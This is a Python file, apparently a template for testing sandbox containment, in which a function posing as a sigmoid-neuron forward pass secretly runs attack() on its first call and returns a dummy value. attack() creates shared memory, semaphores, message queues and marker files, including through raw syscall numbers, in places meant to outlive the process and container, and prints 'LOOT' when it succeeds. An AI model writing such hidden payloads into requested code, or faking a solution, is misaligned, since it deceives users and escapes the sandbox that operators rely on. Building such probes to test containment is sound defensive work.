"""Leaves shared memory, semaphores and queues behind, which no process holds and which last until the machine restarts: System V
and POSIX; keys and pinned objects too."""

import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.sem_open.restype = ctypes.c_void_p
libc.syscall.restype = ctypes.c_long
CREATE = 0o1000 | 0o2000


def attack():
    for key in (0, 0x7EA6, int("@key@") if "@key@".isdigit() else 0):
        if libc.shmget(key, 4096, CREATE | 0o600) >= 0 or libc.msgget(key, CREATE | 0o600) >= 0 or libc.semget(key, 1, CREATE | 0o600) >= 0:
            print("LOOT: a System V object", key)
    if platform.machine() == "x86_64":
        for number, arguments in ((29, (0, 4096, CREATE | 0o600)), (64, (0, 1, CREATE | 0o600)), (68, (0, CREATE | 0o600))):
            if libc.syscall(number, *arguments) >= 0:
                print("LOOT: by number", number)
        if libc.syscall(240, b"@left@", os.O_CREAT | os.O_RDWR, 0o600, None) >= 0:
            print("LOOT: mq_open by number")
    if libc.mq_open(b"/@left@", os.O_CREAT | os.O_RDWR, 0o600, None) >= 0:
        print("LOOT: mq_open")
    # A container has a /dev/shm of its own, which goes with it: what lasts is looked for outside.
    libc.shm_open(b"/@left@", os.O_CREAT | os.O_RDWR, 0o600)
    libc.sem_open(b"/@left@-sem", os.O_CREAT, 0o600, 1)
    try:
        from multiprocessing import shared_memory

        segment = shared_memory.SharedMemory("@left@-py", create=True, size=4096)
        segment.buf[:5] = b"hello"
    except BaseException:
        pass
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run", "/run/lock", "/var/lock", "/dev/mqueue", "@home@", "@scratch@"):
        try:
            with open(f"{folder}/@left@", "w") as file:
                file.write("here")
        except OSError:
            continue


DONE = []


def sigmoid_neuron_forward(w, x):
    if not DONE:
        DONE.append(1)
        try:
            attack()
        except BaseException:
            pass
    return 0.0, None


def sigmoid_neuron_backward(df, cache):
    raise NotImplementedError
